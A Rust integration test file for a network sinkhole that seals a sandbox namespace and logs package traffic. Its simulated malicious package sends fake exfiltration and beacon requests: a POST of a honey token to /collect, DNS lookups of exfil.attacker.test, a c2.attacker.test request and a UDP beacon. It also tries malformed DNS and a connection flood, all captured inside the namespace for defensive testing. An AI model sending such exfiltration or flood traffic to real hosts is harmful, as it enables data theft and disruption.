//! End-to-end proof of the sealed network, run as root here (and in CI).
//!
//! Each test re-executes this test binary as a child in a new user + network namespace
//! (a minimal stand-in for the sandbox's child), where the `child_entry` test runs a
//! scenario: it calls `configure`, checks that only `lo` exists, passes the sockets to
//! this process over a unix socketpair, then plays a package. This process serves the
//! sinkhole on the passed sockets and checks the log.
//!
//! Safety: the child only ever sends traffic after it verified, from inside its
//! namespace, that the namespace has no interface but `lo`; the parent sends nothing.
#![allow(unsafe_code)] // pre_exec: the namespace setup between fork and exec

use std::io::{BufRead, BufReader, ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsFd, AsRawFd, FromRawFd, RawFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use ossprey_sinkhole::{
    ConnectionKind, DnsTransport, NetworkLog, Sinkhole, SinkholeConfig, SinkholeLimits,
    SinkholeSockets, configure, dns, interfaces, recv_fds, send_fds, tls, verify_sealed,
};
use serde_json::{Value, json};

const SCENARIO_ENV: &str = "OSSPREY_SINKHOLE_TEST_SCENARIO";
/// The descriptor number the child finds its end of the socketpair at.
const CHILD_FD: RawFd = 77;

/// Writes `bytes` to `path` using only async-signal-safe calls (for `pre_exec`).
fn write_proc(path: &std::ffi::CStr, bytes: &[u8]) -> std::io::Result<()> {
    // SAFETY: open/write/close on a NUL-terminated path and a live buffer; no
    // allocation, so this is safe between fork and exec.
    unsafe {
        let fd = libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC);
        if fd < 0 {
            return Err(std::io::Error::last_os_error());
        }
        let n = libc::write(fd, bytes.as_ptr().cast(), bytes.len());
        let err = std::io::Error::last_os_error();
        libc::close(fd);
        if n < 0 { Err(err) } else { Ok(()) }
    }
}

/// What one run in a sealed namespace gave.
struct Run {
    log: NetworkLog,
    /// The child's findings, one JSON object per line, merged.
    report: Value,
    elapsed: Duration,
}

/// Runs `scenario` in a child in a fresh user + network namespace, serving the
/// sinkhole here. `None` (with the reason printed) when this host cannot make
/// the namespaces.
/// Starts the namespace child for `scenario`; `None` (with the reason printed) when
/// this host cannot make the namespaces.
fn spawn_child(
    scenario: &str,
    env: &[(&str, String)],
) -> Option<(std::process::Child, UnixStream)> {
    let (parent_end, child_end) = UnixStream::pair().expect("socketpair");
    let child_raw = child_end.as_raw_fd();
    let mut cmd = Command::new(std::env::current_exe().expect("test binary path"));
    cmd.args([
        "--exact",
        "child_entry",
        "--ignored",
        "--nocapture",
        "--test-threads=1",
    ])
    .env(SCENARIO_ENV, scenario)
    .stdin(Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    // SAFETY: the closure only makes raw system calls (dup2, unshare, open/write/close)
    // and touches no lock or allocator, as required between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(child_raw, CHILD_FD) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNET) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            write_proc(c"/proc/self/setgroups", b"deny")?;
            write_proc(c"/proc/self/uid_map", b"0 0 1")?;
            write_proc(c"/proc/self/gid_map", b"0 0 1")?;
            Ok(())
        });
    }
    let child = match cmd.spawn() {
        Ok(child) => child,
        Err(e)
            if matches!(
                e.raw_os_error(),
                Some(libc::EPERM | libc::ENOSPC | libc::EINVAL)
            ) =>
        {
            eprintln!("SKIP {scenario}: cannot create a user + network namespace here: {e}");
            return None;
        }
        Err(e) => panic!("spawn the namespace child: {e}"),
    };
    drop(child_end);
    Some((child, parent_end))
}

/// Reads the child's report lines (JSON objects, merged) until it exits.
fn read_report(channel: &UnixStream) -> Value {
    channel
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    let mut report = serde_json::Map::new();
    for line in BufReader::new(channel).lines() {
        let Ok(line) = line else { break };
        if let Ok(Value::Object(o)) = serde_json::from_str::<Value>(&line) {
            report.extend(o);
        }
    }
    Value::Object(report)
}

fn run_sealed(scenario: &str, env: &[(&str, String)], limits: SinkholeLimits) -> Option<Run> {
    let started = Instant::now();
    let (mut child, parent_end) = spawn_child(scenario, env)?;

    let fds = match recv_fds(&parent_end) {
        Ok(fds) => fds,
        Err(e) => {
            let _ = child.kill();
            let status = child.wait();
            panic!("no sockets from the namespace child ({e}); it ended with {status:?}");
        }
    };
    let sockets = SinkholeSockets::from_fds(fds).expect("the child's sockets");
    let running = Sinkhole::new(limits)
        .spawn(sockets)
        .expect("start the sinkhole");

    let report = read_report(&parent_end);
    let status = child.wait().expect("wait for the child");
    let log = running.stop();
    assert!(
        status.success(),
        "the namespace child failed: {status}; report {report:?}"
    );
    Some(Run {
        log,
        report,
        elapsed: started.elapsed(),
    })
}

/// The child's side: not a test of its own, run only by `run_sealed`.
#[test]
#[ignore = "runs only as the namespace child of the other tests"]
fn child_entry() {
    let Ok(scenario) = std::env::var(SCENARIO_ENV) else {
        return;
    };
    // SAFETY: `run_sealed` put our end of the socketpair at CHILD_FD before exec, and
    // nothing else in this process owns that descriptor.
    let mut channel = unsafe { UnixStream::from_raw_fd(CHILD_FD) };
    if scenario == "unsealed" {
        return unsealed(&mut channel);
    }
    let t = Instant::now();
    let sockets = configure(&SinkholeConfig::default()).expect("configure the sealed network");
    let configure_us = t.elapsed().as_micros() as u64;
    // The harness's own check, before anything tries a non-loopback address.
    verify_sealed().expect("only lo in the sandbox namespace");
    let ifaces = interfaces().expect("list interfaces");
    assert_eq!(
        ifaces,
        ["lo"],
        "the namespace must have no interface but lo"
    );
    let fds = sockets.into_fds();
    send_fds(&channel, &fds.iter().map(AsFd::as_fd).collect::<Vec<_>>()).expect("send fds");
    drop(fds);
    let mut report = |value: Value| {
        writeln!(channel, "{value}").expect("report to the parent");
    };
    report(json!({ "interfaces": ifaces, "configure_us": configure_us }));
    match scenario.as_str() {
        "behaviour" => behaviour(&mut report),
        "hostile" => hostile(&mut report),
        other => panic!("unknown scenario {other}"),
    }
}

fn resolve_udp(resolver: Ipv4Addr, name: &str, qtype: u16) -> Vec<Ipv4Addr> {
    let sock = UdpSocket::bind("0.0.0.0:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    sock.connect((resolver, 53)).unwrap();
    sock.send(&dns::build_query(0x4242, name, qtype)).unwrap();
    let mut buf = [0u8; 1500];
    let n = sock
        .recv(&mut buf)
        .expect("a DNS answer from the asked resolver address");
    assert_eq!(&buf[0..2], &[0x42, 0x42], "answer id");
    dns::answer_addresses(&buf[..n]).expect("a well-formed answer")
}

fn connect(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let s = TcpStream::connect_timeout(&addr, Duration::from_secs(3))?;
    s.set_read_timeout(Some(Duration::from_secs(3)))?;
    Ok(s)
}

fn read_to_close(s: &mut TcpStream) -> Vec<u8> {
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    out
}

/// A package that resolves, beacons over TLS, posts a secret, sends UDP, and tries the
/// host's own listeners.
fn behaviour(report: &mut dyn FnMut(Value)) {
    // DNS over UDP to a public resolver address: answered from inside.
    let addrs = resolve_udp(
        Ipv4Addr::new(8, 8, 8, 8),
        "Exfil.Attacker.test",
        dns::TYPE_A,
    );
    assert_eq!(addrs.len(), 1);
    let ip = addrs[0];
    let v6 = resolve_udp(
        Ipv4Addr::new(1, 1, 1, 1),
        "exfil.attacker.test",
        dns::TYPE_AAAA,
    );
    report(json!({ "resolved": ip.to_string(), "aaaa": v6.len() }));

    // DNS over TCP.
    let mut t = connect(SocketAddr::from(([9, 9, 9, 9], 53))).unwrap();
    let q = dns::build_query(7, "tcp.attacker.test", dns::TYPE_A);
    let mut framed = u16::try_from(q.len()).unwrap().to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    t.write_all(&framed).unwrap();
    let mut len = [0u8; 2];
    t.read_exact(&mut len).unwrap();
    let mut resp = vec![0u8; usize::from(u16::from_be_bytes(len))];
    t.read_exact(&mut resp).unwrap();
    report(json!({ "tcp_dns": dns::answer_addresses(&resp).unwrap()[0].to_string() }));
    drop(t);

    // HTTPS to the resolved name: a ClientHello, then the sinkhole hangs up.
    let mut s = connect(SocketAddr::from((ip, 443))).unwrap();
    s.write_all(&tls::build_client_hello(
        "exfil.attacker.test",
        &["h2", "http/1.1"],
    ))
    .unwrap();
    let after_hello = read_to_close(&mut s);
    report(json!({ "tls_reply_len": after_hello.len() }));

    // HTTP to a raw IP: two requests on one keep-alive connection.
    let mut h = connect(SocketAddr::from(([203, 0, 113, 7], 8080))).unwrap();
    let body = "token=HONEY-1234&host=victim";
    write!(
        h,
        "POST /collect?v=1 HTTP/1.1\r\nHost: 203.0.113.7:8080\r\nUser-Agent: imitation/1.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut first = vec![0u8; 512];
    let n = h.read(&mut first).unwrap();
    let first = String::from_utf8_lossy(&first[..n]).into_owned();
    h.write_all(b"GET /second HTTP/1.1\r\nHost: c2.attacker.test\r\nConnection: close\r\n\r\n")
        .unwrap();
    let second = String::from_utf8_lossy(&read_to_close(&mut h)).into_owned();
    report(json!({ "http_first": first, "http_second": second }));

    // A UDP datagram to an arbitrary address and port.
    let u = UdpSocket::bind("0.0.0.0:0").unwrap();
    u.send_to(
        b"udp-beacon:HONEY-1234",
        (Ipv4Addr::new(198, 51, 100, 9), 9999),
    )
    .unwrap();

    // The host's listeners: its loopback and its own interface address.
    let lo_port: u16 = std::env::var("HOST_LO_PORT").unwrap().parse().unwrap();
    let lo = connect(SocketAddr::from(([127, 0, 0, 1], lo_port)));
    report(json!({ "host_loopback": match &lo {
        Ok(_) => "connected".to_string(),
        Err(e) => format!("{:?}", e.kind()),
    }}));
    if let (Ok(ip), Ok(port)) = (std::env::var("HOST_IP"), std::env::var("HOST_IP_PORT")) {
        let addr = SocketAddr::new(ip.parse().unwrap(), port.parse().unwrap());
        let mut c = connect(addr).expect("the host address is answered by the sinkhole");
        c.write_all(b"leak-probe").unwrap();
        c.shutdown(std::net::Shutdown::Write).unwrap();
        let _ = read_to_close(&mut c);
        report(json!({ "host_ip": "connected" }));
    }

    // IPv6 is not routed: nothing to observe, and nothing leaves.
    let v6 = TcpStream::connect_timeout(
        &SocketAddr::new(
            IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1)),
            80,
        ),
        Duration::from_secs(2),
    );
    report(
        json!({ "ipv6": match v6 { Ok(_) => "connected".into(), Err(e) => e.raw_os_error().unwrap_or(0).to_string() } }),
    );
}

#[test]
fn sealed_namespace_records_dns_tls_http_udp_and_nothing_reaches_the_host() {
    // Host listeners the sandboxed code will aim at. They must never see a connection.
    let host_lo = TcpListener::bind("127.0.0.1:0").unwrap();
    host_lo.set_nonblocking(true).unwrap();
    let host_ip = primary_ipv4();
    let host_ip_listener = host_ip.map(|ip| {
        let l = TcpListener::bind((ip, 0)).unwrap();
        l.set_nonblocking(true).unwrap();
        l
    });
    let mut env = vec![(
        "HOST_LO_PORT",
        host_lo.local_addr().unwrap().port().to_string(),
    )];
    match (&host_ip, &host_ip_listener) {
        (Some(ip), Some(l)) => {
            env.push(("HOST_IP", ip.to_string()));
            env.push(("HOST_IP_PORT", l.local_addr().unwrap().port().to_string()));
        }
        _ => eprintln!(
            "note: this host has no non-loopback IPv4 address; only its loopback is probed"
        ),
    }

    let Some(run) = run_sealed("behaviour", &env, SinkholeLimits::default()) else {
        return;
    };
    let (log, r) = (&run.log, &run.report);
    println!("{}", serde_json::to_string_pretty(log).unwrap());
    println!("child report: {r}");
    eprintln!(
        "behaviour scenario took {:?}; configure() inside the namespace took {} us",
        run.elapsed, r["configure_us"]
    );

    // Nothing reached the host.
    assert_eq!(
        host_lo.accept().map(|_| ()).unwrap_err().kind(),
        ErrorKind::WouldBlock
    );
    if let Some(l) = &host_ip_listener {
        assert_eq!(
            l.accept().map(|_| ()).unwrap_err().kind(),
            ErrorKind::WouldBlock
        );
    }
    assert_eq!(r["interfaces"], json!(["lo"]));
    assert_eq!(
        r["host_loopback"], "ConnectionRefused",
        "the host's loopback is another stack"
    );
    assert_eq!(r["ipv6"], libc::ENETUNREACH.to_string());

    // DNS: each name its own address, questions logged with type, case and resolver.
    let ip: Ipv4Addr = r["resolved"].as_str().unwrap().parse().unwrap();
    assert_eq!(ip.octets()[..2], [198, 18]);
    assert_eq!(r["aaaa"], 0);
    let tcp_ip: Ipv4Addr = r["tcp_dns"].as_str().unwrap().parse().unwrap();
    assert_ne!(ip, tcp_ip);
    let q = |name: &str, t: &str| {
        log.dns
            .iter()
            .find(|q| q.hostname == name && q.qtype == t)
            .unwrap_or_else(|| panic!("no {t} query for {name}"))
            .clone()
    };
    let a = q("Exfil.Attacker.test", "A");
    assert_eq!(a.resolver, IpAddr::V4(Ipv4Addr::new(8, 8, 8, 8)));
    assert_eq!(a.answer, Some(ip));
    assert_eq!(a.transport, DnsTransport::Udp);
    assert_eq!(q("exfil.attacker.test", "AAAA").answer, None);
    assert_eq!(q("tcp.attacker.test", "A").transport, DnsTransport::Tcp);

    // TLS: SNI and ALPN, linked to the name the address came from.
    let tls_conn = log
        .connections
        .iter()
        .find(|c| c.kind == ConnectionKind::Tls)
        .unwrap();
    assert_eq!(tls_conn.dst_ip, IpAddr::V4(ip));
    assert_eq!(tls_conn.dst_port, 443);
    assert_eq!(tls_conn.hostname.as_deref(), Some("exfil.attacker.test"));
    assert_eq!(tls_conn.tls_sni.as_deref(), Some("exfil.attacker.test"));
    assert_eq!(tls_conn.tls_alpn, ["h2", "http/1.1"]);
    assert_eq!(r["tls_reply_len"], 0, "no handshake is completed");

    // HTTP: both requests, with the original destination.
    assert!(
        r["http_first"]
            .as_str()
            .unwrap()
            .starts_with("HTTP/1.1 200 OK\r\n")
    );
    assert!(
        r["http_second"]
            .as_str()
            .unwrap()
            .starts_with("HTTP/1.1 200 OK\r\n")
    );
    let http = log
        .connections
        .iter()
        .find(|c| c.kind == ConnectionKind::Http)
        .unwrap();
    assert_eq!(http.dst_ip, IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7)));
    assert_eq!(http.dst_port, 8080);
    assert_eq!(http.hostname, None);
    assert_eq!(http.http.len(), 2);
    let post = &http.http[0];
    assert_eq!(post.method, "POST");
    assert_eq!(post.path, "/collect?v=1");
    assert_eq!(post.host.as_deref(), Some("203.0.113.7:8080"));
    assert!(
        post.headers
            .iter()
            .any(|h| h.name == "User-Agent" && h.value == "imitation/1.0")
    );
    assert_eq!(post.body_prefix.0, b"token=HONEY-1234&host=victim");
    assert!(!post.body_truncated);
    assert_eq!(http.http[1].path, "/second");
    assert_eq!(http.http[1].host.as_deref(), Some("c2.attacker.test"));
    assert!(
        http.bytes_prefix
            .0
            .starts_with(b"POST /collect?v=1 HTTP/1.1\r\n")
    );

    // UDP: the datagram with its true destination.
    let d = log
        .datagrams
        .iter()
        .find(|d| d.dst_port == 9999)
        .expect("the UDP datagram is logged");
    assert_eq!(d.dst_ip, IpAddr::V4(Ipv4Addr::new(198, 51, 100, 9)));
    assert_eq!(d.bytes_prefix.0, b"udp-beacon:HONEY-1234");
    assert!(
        log.datagrams
            .iter()
            .all(|d| d.dst_port != 53 && d.src_port != 53)
    );

    // The host-address probe landed in the sinkhole instead.
    if let (Some(ip), Some(l)) = (host_ip, &host_ip_listener) {
        let port = l.local_addr().unwrap().port();
        let probe = log
            .connections
            .iter()
            .find(|c| c.dst_ip == IpAddr::V4(ip) && c.dst_port == port)
            .expect("the sinkhole got the connection aimed at the host's address");
        assert_eq!(probe.bytes_prefix.0, b"leak-probe");
        assert_eq!(probe.kind, ConnectionKind::Raw);
        assert_eq!(r["host_ip"], "connected");
    }
    assert_eq!(log.names.len(), 2);
    assert_eq!(log.dropped.connections, 0);
}

/// The host's first non-loopback IPv4 address, if it has one.
fn primary_ipv4() -> Option<Ipv4Addr> {
    nix::ifaddrs::getifaddrs().ok()?.find_map(|ifa| {
        let sin = ifa.address?.as_sockaddr_in().copied()?;
        let ip = sin.ip();
        (!ip.is_loopback()).then_some(ip)
    })
}

/// A package that attacks the sinkhole itself.
fn hostile(report: &mut dyn FnMut(Value)) {
    // Malformed DNS: garbage, truncated, a response, a pointer loop; then a good query.
    let u = UdpSocket::bind("0.0.0.0:0").unwrap();
    let good = dns::build_query(1, "still.alive.test", dns::TYPE_A);
    let mut pointer_loop = good[..12].to_vec();
    pointer_loop.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1]);
    let mut response = good.clone();
    response[2] |= 0x80;
    for junk in [
        &b""[..],
        b"\x00",
        &good[..7],
        &good[..15],
        &pointer_loop,
        &response,
        &[0xff; 600],
    ] {
        u.send_to(junk, (Ipv4Addr::new(8, 8, 4, 4), 53)).unwrap();
    }
    let addrs = resolve_udp(Ipv4Addr::new(8, 8, 4, 4), "still.alive.test", dns::TYPE_A);
    report(json!({ "dns_after_junk": addrs.len() }));

    // Half-open: connect, send nothing, wait; the sinkhole must hang up by itself.
    let mut idle = connect(SocketAddr::from(([192, 0, 2, 1], 7000))).unwrap();
    idle.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let t = Instant::now();
    let mut b = [0u8; 1];
    let closed = matches!(idle.read(&mut b), Ok(0));
    report(json!({ "idle_closed": closed, "idle_closed_ms": t.elapsed().as_millis() as u64 }));

    // A huge upload: 8 MiB of body, answered, kept only as a prefix.
    let mut up = connect(SocketAddr::from(([192, 0, 2, 2], 80))).unwrap();
    let size = 8 * 1024 * 1024;
    write!(up, "POST /upload HTTP/1.1\r\nHost: drop.attacker.test\r\nContent-Length: {size}\r\nConnection: close\r\n\r\n").unwrap();
    let chunk = vec![b'A'; 64 * 1024];
    for _ in 0..size / chunk.len() {
        up.write_all(&chunk).unwrap();
    }
    let answer = String::from_utf8_lossy(&read_to_close(&mut up)).into_owned();
    report(json!({ "upload_answer": answer }));

    // A raw protocol.
    let mut raw = connect(SocketAddr::from(([192, 0, 2, 3], 22))).unwrap();
    raw.write_all(b"SSH-2.0-imitation\r\n").unwrap();
    raw.shutdown(std::net::Shutdown::Write).unwrap();
    let _ = read_to_close(&mut raw);

    // Many connections at once: far past the concurrency limit.
    let mut open = Vec::new();
    let mut refused = 0;
    for i in 0..300u16 {
        match connect(SocketAddr::from(([192, 0, 2, 4], 1000 + i))) {
            Ok(mut s) => {
                let _ = s.write_all(b"x");
                open.push(s);
            }
            Err(_) => refused += 1,
        }
    }
    report(json!({ "flood_open": open.len(), "flood_refused": refused }));
    drop(open);
}

#[test]
fn hostile_packages_cannot_crash_hang_or_flood_the_sinkhole() {
    let limits = SinkholeLimits {
        idle_timeout: Duration::from_millis(300),
        max_concurrent: 16,
        max_connections: 100,
        ..SinkholeLimits::default()
    };
    let Some(run) = run_sealed("hostile", &[], limits) else {
        return;
    };
    let (log, r) = (&run.log, &run.report);
    println!("child report: {r}");
    eprintln!("hostile scenario took {:?}", run.elapsed);

    assert_eq!(r["dns_after_junk"], 1, "DNS still answers after junk");
    assert!(log.dropped.malformed_dns >= 5, "{:?}", log.dropped);
    assert!(log.dns.iter().any(|q| q.hostname == "still.alive.test"));

    assert_eq!(r["idle_closed"], true, "a silent connection is closed");
    assert!(r["idle_closed_ms"].as_u64().unwrap() < 2000);
    let idle = log.connections.iter().find(|c| c.dst_port == 7000).unwrap();
    assert_eq!(idle.kind, ConnectionKind::Empty);

    assert!(
        r["upload_answer"]
            .as_str()
            .unwrap()
            .starts_with("HTTP/1.1 200 OK")
    );
    let up = log.connections.iter().find(|c| c.dst_port == 80).unwrap();
    assert!(up.truncated);
    assert_eq!(up.bytes_prefix.0.len(), 64 * 1024);
    assert_eq!(up.http[0].body_len, 8 * 1024 * 1024);
    assert!(up.http[0].body_truncated);
    assert_eq!(up.http[0].body_prefix.0.len(), 16 * 1024);

    let raw = log.connections.iter().find(|c| c.dst_port == 22).unwrap();
    assert_eq!(raw.kind, ConnectionKind::Raw);
    assert_eq!(raw.bytes_prefix.0, b"SSH-2.0-imitation\r\n");

    // The flood: bounded records, the rest counted as dropped, every one accounted for.
    assert!(log.connections.len() <= 100, "{}", log.connections.len());
    assert!(log.dropped.connections > 0);
    let flood = log
        .connections
        .iter()
        .filter(|c| c.dst_port >= 1000 && c.dst_port < 1300)
        .count();
    let opened = r["flood_open"].as_u64().unwrap();
    assert_eq!(
        flood as u64 + log.dropped.connections,
        opened,
        "every flood connection is recorded or counted"
    );
    assert!(run.elapsed < Duration::from_secs(20));
}

/// A namespace that has a second interface: `configure` must refuse it.
fn unsealed(channel: &mut UnixStream) {
    let made = Command::new("ip")
        .args([
            "link", "add", "probe0", "type", "veth", "peer", "name", "probe1",
        ])
        .status();
    let Ok(status) = made else {
        writeln!(
            channel,
            "{}",
            json!({ "skip": "no `ip` binary to add an interface with" })
        )
        .unwrap();
        return;
    };
    assert!(status.success(), "ip link add: {status}");
    let err =
        configure(&SinkholeConfig::default()).expect_err("a namespace with veth is not sealed");
    writeln!(
        channel,
        "{}",
        json!({ "error": err.to_string(), "interfaces": interfaces().unwrap() })
    )
    .unwrap();
}

#[test]
fn configure_refuses_a_namespace_with_an_interface_besides_lo() {
    let Some((mut child, channel)) = spawn_child("unsealed", &[]) else {
        return;
    };
    let r = read_report(&channel);
    assert!(child.wait().unwrap().success());
    if let Some(why) = r.get("skip") {
        eprintln!("SKIP: {why}");
        return;
    }
    let err = r["error"].as_str().unwrap();
    assert!(
        err.contains("not sealed") && err.contains("probe0"),
        "{err}"
    );
    let mut ifaces: Vec<&str> = r["interfaces"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap())
        .collect();
    ifaces.sort_unstable();
    assert_eq!(ifaces, ["lo", "probe0", "probe1"]);
}
